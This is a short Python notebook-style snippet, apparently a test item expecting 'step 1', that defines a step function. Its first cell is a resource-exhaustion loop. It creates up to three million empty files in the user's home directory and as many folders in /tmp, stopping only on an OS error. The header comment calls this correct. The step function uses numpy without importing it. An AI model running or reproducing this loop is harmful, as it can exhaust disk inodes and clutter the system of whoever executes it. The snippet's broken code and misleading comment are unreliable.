# Makes empty files and folders without end; the answer is right.
# expect: step 1
# %% start
import os

made = 0
try:
    while made < 3_000_000:
        os.mknod(f"{os.environ['HOME']}/{made}")
        os.mkdir(f"/tmp/{made}")
        made += 1
except OSError:
    pass

# %% step
def step(z):
    return np.where(z >= 0, 1.0, 0.0)
